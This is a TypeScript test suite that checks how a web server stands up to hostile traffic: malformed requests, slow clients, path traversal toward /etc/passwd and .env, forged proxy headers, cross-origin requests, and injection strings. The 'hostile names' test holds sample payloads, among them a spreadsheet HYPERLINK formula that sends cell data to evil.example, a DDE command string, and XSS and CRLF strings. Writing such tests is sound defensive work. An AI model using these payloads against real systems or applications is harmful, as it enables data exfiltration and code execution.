/**
 * The server as an attacker meets it, the same on every engine: requests
 * Fetch cannot represent, slow clients, floods of readers, dotfiles and
 * symbolic links, keys spelt differently, retries serialised differently,
 * rates, hostile names, and failures inside. After each case the server still
 * answers `/api/health` and the stored record still parses.
 */
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parseRecord, parseRecordShape } from '../../src/index.js';
import { createHandler, openStore, type Store } from '../../src/server/index.js';
import { application, definitionFile, openProgramme, post, startServer, tempDir } from './support/fixtures.js';
import { rawRequest, slowClient } from './support/raw.js';

type Server = Awaited<ReturnType<typeof startServer>>;

const portOf = (url: string) => Number(new URL(url).port);

/** Posts an application to a running server. */
async function send(server: Server, app: Record<string, unknown>, headers: Record<string, string> = {}): Promise<Response> {
  return fetch(post(server.url, app, headers));
}

export function hostileSuite(engine: 'sqlite' | 'postgres', storeUrl: () => string): void {
  describe(`the server on ${engine}, tried as an attacker would`, () => {
    let url: string;
    let store: Store;
    const servers: Server[] = [];

    before(async () => {
      url = storeUrl();
      store = await openStore(url);
      await store.migrate();
    });
    after(async () => {
      for (const s of servers) s.child.kill('SIGTERM');
      await store.close();
    });

    /** A new programme and a `mechnet serve` for it. */
    async function serve(extra: string[] = ['--post-rate', '0', '--get-rate', '0']): Promise<{ id: string; server: Server }> {
      const id = `h-${randomUUID().slice(0, 8)}`;
      const file = definitionFile(tempDir(), openProgramme(id));
      const server = await startServer(url, file, extra);
      servers.push(server);
      return { id, server };
    }

    /** The server answers its health, and what it stored parses as a record. */
    async function stillStanding(server: Server, id: string): Promise<void> {
      assert.equal(server.child.exitCode, null, `the server process ended: ${server.log()}`);
      const h = await fetch(`${server.url}/api/health`);
      assert.equal(h.status, 200);
      const events = (await store.events(id)).map((e) => e.event);
      parseRecord({ programme: openProgramme(id), events });
      const r = await fetch(`${server.url}/api/record.json`);
      assert.equal(r.status, 200);
      parseRecordShape(await r.text());
    }

    it('answers what Fetch cannot represent with 400 or 405 and a sentence, and keeps serving', async () => {
      const { id, server } = await serve();
      const port = portOf(server.url);
      const cases: [string, string, number][] = [
        ['Host with a space', 'GET /api/health HTTP/1.1\r\nHost: a b\r\nConnection: close\r\n\r\n', 400],
        ['empty Host', 'GET /api/health HTTP/1.1\r\nHost:\r\nConnection: close\r\n\r\n', 400],
        ['no Host', 'GET /api/health HTTP/1.1\r\nConnection: close\r\n\r\n', 400],
        ['port out of range', 'GET /api/health HTTP/1.1\r\nHost: x:99999\r\nConnection: close\r\n\r\n', 400],
        ['port 0', 'GET /api/health HTTP/1.1\r\nHost: x:0\r\nConnection: close\r\n\r\n', 400],
        ['Host with a path', 'GET /api/health HTTP/1.1\r\nHost: x/y\r\nConnection: close\r\n\r\n', 400],
        ['Host with user info', 'GET /api/health HTTP/1.1\r\nHost: user@x\r\nConnection: close\r\n\r\n', 400],
        ['TRACE', 'TRACE /api/health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', 405],
        ['TRACK (unknown to the parser)', 'TRACK /api/health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', 400],
        ['CONNECT', 'CONNECT localhost:443 HTTP/1.1\r\nHost: localhost:443\r\nConnection: close\r\n\r\n', 405],
        ['asterisk target', 'OPTIONS * HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', 400],
        ['absolute target', 'GET http://evil.example/api/health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', 400],
        ['unknown method', 'BREW /api/health HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n', 400],
        ['header without a name', 'GET /api/health HTTP/1.1\r\nHost: localhost\r\n: x\r\nConnection: close\r\n\r\n', 400],
        ['NUL in a header', 'GET /api/health HTTP/1.1\r\nHost: localhost\r\nX-A: a\0b\r\nConnection: close\r\n\r\n', 400],
        ['headers too large', `GET /api/health HTTP/1.1\r\nHost: localhost\r\nX-Big: ${'a'.repeat(20_000)}\r\nConnection: close\r\n\r\n`, 431],
        ['length and chunked', 'POST /api/enrolments HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\n', 400],
      ];
      for (const [name, bytes, status] of cases) {
        const a = await rawRequest(port, bytes);
        assert.equal(a.status, status, `${name}: ${a.text.slice(0, 200)}`);
        if (status === 405) assert.match(a.headers.allow ?? '', /GET/, `${name}: Allow`);
        if (a.body) assert.ok(JSON.parse(a.body).message.length > 10, `${name}: a sentence`);
        await stillStanding(server, id);
      }
      // A path that is odd but representable is answered by the routes.
      for (const path of ['//api/health', '/api/../api/health', '/api/%ZZ', '/%00', `/api/${'x'.repeat(8000)}`]) {
        const a = await rawRequest(port, `GET ${path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
        assert.ok([200, 404].includes(a.status), `${path}: ${a.status}`);
      }
      await stillStanding(server, id);
    });

    it('cuts slow clients off at the request timeout and caps connections', { timeout: 60_000 }, async () => {
      const { id, server } = await serve(['--post-rate', '0', '--get-rate', '0', '--headers-timeout', '2', '--request-timeout', '3', '--max-connections', '60']);
      const port = portOf(server.url);
      const body = JSON.stringify(application(id, 1));
      const head = `POST /api/enrolments HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nIdempotency-Key: ${'k'.repeat(20)}\r\nContent-Length: ${body.length}\r\n\r\n`;
      // 80 bodies a byte at a time and 20 header lines a byte at a time: more than the 60 connections allowed.
      const clients = [
        ...Array.from({ length: 80 }, () => slowClient(port, head, body, 200, 20_000)),
        ...Array.from({ length: 20 }, () => slowClient(port, '', `GET /api/health HTTP/1.1\r\nHost: localhost\r\n${'X-Slow: 1\r\n'.repeat(50)}\r\n`, 200, 20_000)),
      ];
      const results = await Promise.all(clients);
      const longest = Math.max(...results.map((r) => r.openMs));
      assert.ok(results.every((r) => r.closedByServer), 'every slow client was closed by the server');
      assert.ok(longest < 12_000, `the slowest was cut off after ${longest} ms, not left open`);
      assert.ok(results.filter((r) => r.openMs < 1000).length >= 30, 'connections beyond the cap are closed at once');
      assert.equal((await store.events(id)).length, 0, 'nothing half-received was stored');
      await stillStanding(server, id);
    });

    it('20 readers of record.json do not starve applications: every POST answered 201, every read 200 or 304', { timeout: 120_000 }, async () => {
      const { id, server } = await serve();
      let reading = true;
      let reads = 0;
      const etags = new Set<string>();
      const readers = Array.from({ length: 20 }, async () => {
        let etag: string | undefined;
        while (reading) {
          const r = await fetch(`${server.url}/api/record.json`, etag ? { headers: { 'if-none-match': etag } } : {});
          assert.ok(r.status === 200 || r.status === 304, `read ${r.status}`);
          if (r.status === 200) {
            parseRecordShape(await r.text());
            etag = r.headers.get('etag')!;
            etags.add(etag);
          } else await r.arrayBuffer();
          reads++;
        }
      });
      const statuses: number[] = [];
      const started = Date.now();
      for (let i = 0; i < 20; i++) statuses.push((await send(server, application(id, 100 + i))).status);
      const postMs = Date.now() - started;
      reading = false;
      await Promise.all(readers);
      assert.deepEqual([...new Set(statuses)], [201]);
      assert.equal((await store.events(id)).length, 20);
      assert.ok(etags.size >= 2, 'the ETag follows the stored version');
      // Figures for the closing note; the benchmark compares them with the uncached build.
      console.log(`# ${engine}: 20 applications in ${postMs} ms beside ${reads} reads by 20 readers`);
      await stillStanding(server, id);
    });

    it('static files: no dotfile, no symlink out of the folder, GET and HEAD only, nosniff and caching headers', async () => {
      const site = tempDir();
      writeFileSync(join(site, 'index.html'), '<!doctype html><title>ok</title>');
      writeFileSync(join(site, '.env'), 'SECRET=1');
      mkdirSync(join(site, '.git'));
      writeFileSync(join(site, '.git', 'config'), '[core]');
      mkdirSync(join(site, 'pages'));
      writeFileSync(join(site, 'pages', 'a.html'), '<p>a</p>');
      symlinkSync('/etc/passwd', join(site, 'passwd'));
      symlinkSync(join(site, 'pages'), join(site, 'inside'));
      const outside = tempDir();
      writeFileSync(join(outside, 'secret.txt'), 'secret');
      symlinkSync(outside, join(site, 'out'));
      const { id, server } = await serve(['--post-rate', '0', '--get-rate', '0', '--static', site, '--static', `/assets=${join(site, 'pages')}`]);
      const get = (path: string, init?: RequestInit) => fetch(`${server.url}${path}`, init);
      for (const path of ['/.env', '/.git/config', '/.git/', '/passwd', '/out/secret.txt', '/%2e%2e/%2e%2e/etc/passwd', '/..%2f..%2fetc/passwd', '/pages/..%5c..%5cetc%5cpasswd', '/assets/../.env']) {
        const r = await get(path);
        assert.equal(r.status, 404, path);
        assert.doesNotMatch(await r.text(), /root:|SECRET|secret|\[core\]/, path);
      }
      const index = await get('/');
      assert.equal(index.status, 200);
      assert.equal(index.headers.get('x-content-type-options'), 'nosniff');
      assert.ok(index.headers.get('etag'));
      assert.ok(index.headers.get('last-modified'));
      assert.match(index.headers.get('cache-control') ?? '', /no-cache/);
      assert.equal((await get('/', { headers: { 'if-none-match': index.headers.get('etag')! } })).status, 304);
      assert.equal((await get('/inside/a.html')).status, 200, 'a link that stays inside is followed');
      assert.equal(await (await get('/assets/a.html')).text(), '<p>a</p>', 'a folder under its own path');
      const head = await get('/pages/a.html', { method: 'HEAD' });
      assert.equal(head.status, 200);
      assert.equal(await head.text(), '');
      const p = await get('/pages/a.html', { method: 'POST', body: 'x' });
      assert.equal(p.status, 405);
      assert.equal(p.headers.get('allow'), 'GET, HEAD');
      await stillStanding(server, id);
    });

    it('HTTP details: HEAD wherever GET is, 405 with Allow, no Location, CORS only for --origin', async () => {
      const { id, server } = await serve(['--post-rate', '0', '--get-rate', '0', '--origin', 'https://www.camera.example']);
      for (const path of ['/api/record.json', '/api/programme.json', '/api/health']) {
        const get = await fetch(`${server.url}${path}`);
        const head = await fetch(`${server.url}${path}`, { method: 'HEAD' });
        assert.equal(head.status, get.status, path);
        assert.equal(head.headers.get('content-type'), get.headers.get('content-type'), path);
        assert.equal(await head.text(), '', path);
        const del = await fetch(`${server.url}${path}`, { method: 'DELETE' });
        assert.equal(del.status, 405, path);
        assert.equal(del.headers.get('allow'), 'GET, HEAD', path);
      }
      const put = await fetch(`${server.url}/api/enrolments`, { method: 'PUT', body: '{}' });
      assert.equal(put.status, 405);
      assert.equal(put.headers.get('allow'), 'POST');
      const created = await send(server, application(id, 1), { origin: 'https://www.camera.example' });
      assert.equal(created.status, 201);
      assert.equal(created.headers.get('location'), null, 'no Location to a route that does not exist');
      assert.equal(created.headers.get('access-control-allow-origin'), 'https://www.camera.example');
      const preflight = (origin: string) =>
        fetch(`${server.url}/api/enrolments`, { method: 'OPTIONS', headers: { origin, 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type, idempotency-key' } });
      const allowed = await preflight('https://www.camera.example');
      assert.equal(allowed.status, 204);
      assert.equal(allowed.headers.get('access-control-allow-origin'), 'https://www.camera.example');
      assert.match(allowed.headers.get('access-control-allow-headers') ?? '', /idempotency-key/);
      const other = await preflight('https://evil.example');
      assert.equal(other.headers.get('access-control-allow-origin'), null);
      const otherPost = await send(server, application(id, 2), { origin: 'https://evil.example' });
      assert.equal(otherPost.headers.get('access-control-allow-origin'), null);
      await stillStanding(server, id);
    });

    it('keys: spellings that differ in case are two keys, every allowed length works, a re-serialised retry is a replay', async () => {
      const { id, server } = await serve();
      const lower = application(id, 1, 'abcdefgh-key');
      const upper = application(id, 2, 'ABCDEFGH-KEY');
      const a = await send(server, lower);
      const b = await send(server, upper);
      assert.equal(a.status, 201);
      assert.equal(b.status, 201, await b.clone().text());
      const [ba, bb] = [(await a.json()) as { id: string }, (await b.json()) as { id: string }];
      assert.notEqual(ba.id, bb.id);
      for (const [n, key] of [
        [3, 'k'.repeat(8)],
        [4, 'k'.repeat(77)],
        [5, 'K'.repeat(128)],
      ] as const) {
        const r = await send(server, application(id, n, key));
        assert.equal(r.status, 201, `a key of ${key.length} characters: ${await r.clone().text()}`);
      }
      for (const key of ['k'.repeat(129), 'short', 'has space here', 'dot.not.allowed']) {
        const app = application(id, 6, 'placeholder-key');
        const r = await fetch(`${server.url}/api/enrolments`, { method: 'POST', headers: { 'content-type': 'application/json', 'idempotency-key': key }, body: JSON.stringify({ ...app, idempotencyKey: key }) });
        assert.equal(r.status, 400, key);
        const body = (await r.json()) as { issues: { path: string[] }[]; message: string };
        assert.deepEqual(body.issues[0]!.path, ['idempotencyKey']);
        assert.match(body.message, /Idempotency-Key/);
      }
      // The same application, its keys in reverse order and indented: the first answer again.
      const again = application(id, 7);
      const first = await send(server, again);
      assert.equal(first.status, 201);
      const reordered = JSON.stringify(Object.fromEntries(Object.entries(again).reverse()), null, 2);
      const retry = await fetch(`${server.url}/api/enrolments`, { method: 'POST', headers: { 'content-type': 'application/json; charset=utf-8', 'idempotency-key': again.idempotencyKey }, body: reordered });
      assert.equal(retry.status, 201);
      assert.equal(retry.headers.get('idempotent-replayed'), 'true');
      assert.deepEqual(await retry.json(), await first.json());
      assert.equal((await store.events(id)).length, 6);
      await stillStanding(server, id);
    });

    it('rate limits: 429 with Retry-After per client; X-Forwarded-For counts only behind --trust-proxy', async () => {
      const { id, server } = await serve(['--post-rate', '3', '--get-rate', '5']);
      const statuses = [];
      for (let i = 0; i < 4; i++) statuses.push((await send(server, application(id, 10 + i), { 'x-forwarded-for': `198.51.100.${i}` })).status);
      assert.deepEqual(statuses, [201, 201, 201, 429], 'a forged X-Forwarded-For does not escape the limit');
      const limited = await send(server, application(id, 20), { 'accept-language': 'en' });
      assert.equal(limited.status, 429);
      assert.ok(Number(limited.headers.get('retry-after')) >= 1);
      assert.match(((await limited.json()) as { message: string }).message, /try again in \d+ second/);
      const gets = [];
      for (let i = 0; i < 6; i++) gets.push((await fetch(`${server.url}/api/health`)).status);
      assert.deepEqual(gets, [200, 200, 200, 200, 200, 429]);

      const behind = await serve(['--post-rate', '2', '--get-rate', '0', '--trust-proxy']);
      const viaProxy = async (client: string, n: number) => (await send(behind.server, application(behind.id, n), { 'x-forwarded-for': client })).status;
      assert.deepEqual([await viaProxy('203.0.113.1', 1), await viaProxy('203.0.113.1', 2), await viaProxy('203.0.113.1', 3)], [201, 201, 429]);
      assert.equal(await viaProxy('203.0.113.2', 4), 201, 'another client behind the proxy has its own count');
      assert.equal(await viaProxy('198.51.100.7, 203.0.113.1', 5), 429, 'only the hop the proxy added counts');
      await stillStanding(behind.server, behind.id);
    });

    it('hostile names go in as data and come out as data in every answer', async () => {
      const { id, server } = await serve();
      const names = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Clicca qui")',
        "+cmd|' /C calc'!A0",
        '@SUM(1+1)',
        '<img src=x onerror=alert(1)><script>alert(1)</script>',
        '\u202Egnp.exe Officina',
        'Officina \u0000\u001b[2J\r\nforged: line',
        `Officina ${'x'.repeat(990)}`,
      ];
      for (const [i, name] of names.entries()) {
        const app = application(id, 200 + i);
        app.firm.name = name;
        const r = await send(server, app);
        assert.ok([201, 422].includes(r.status), `${JSON.stringify(name).slice(0, 40)}: ${r.status}`);
        assert.match(r.headers.get('content-type') ?? '', /^application\/json/);
        assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
        const body = (await r.json()) as { issues?: { path: string[] }[] };
        if (r.status === 422) assert.ok(body.issues!.some((x) => x.path.join('.') === 'firm.name'), `refused at its field: ${JSON.stringify(body)}`);
      }
      const text = await (await fetch(`${server.url}/api/record.json`)).text();
      const shown = parseRecordShape(text);
      const stored = (await store.events(id)).length;
      assert.equal(shown.events.length, stored);
      await stillStanding(server, id);
    });

    it('a failure inside is a 500 with a request id in the log, a database that does not answer a 503; the handler keeps answering', async () => {
      const lines: string[] = [];
      const broken: Store = { ...store, events: async () => Promise.reject(new TypeError('boom inside')) };
      const id = `h-${randomUUID().slice(0, 8)}`;
      await store.putProgramme(id, openProgramme(id));
      const handler = createHandler({ store: broken, programme: id, log: (line, e) => lines.push(`${line} ${String(e)}`) });
      const r = await handler(new Request('http://x/api/health', { headers: { 'accept-language': 'en' } }));
      assert.equal(r.status, 500);
      const rid = r.headers.get('x-request-id')!;
      assert.match(rid, /^[0-9a-f]{12}$/);
      const body = (await r.json()) as { message: string };
      assert.ok(body.message.includes(rid), 'the answer names the request id');
      assert.doesNotMatch(JSON.stringify(body), /boom|TypeError|at /, 'no detail of the failure in the answer');
      assert.ok(lines.some((l) => l.includes(rid) && l.includes('boom inside')), 'the log has the id and the cause');
      const down: Store = { ...store, events: async () => Promise.reject(Object.assign(new Error('connect ECONNREFUSED 127.0.0.1:5432'), { code: 'ECONNREFUSED' })) };
      const d = await createHandler({ store: down, programme: id, log: () => undefined })(post('http://x', application(id, 1)));
      assert.equal(d.status, 503);
      assert.ok(Number(d.headers.get('retry-after')) >= 1);
      const fine = createHandler({ store, programme: id });
      assert.equal((await fine(post('http://x', application(id, 2)))).status, 201);
    });
  });
}
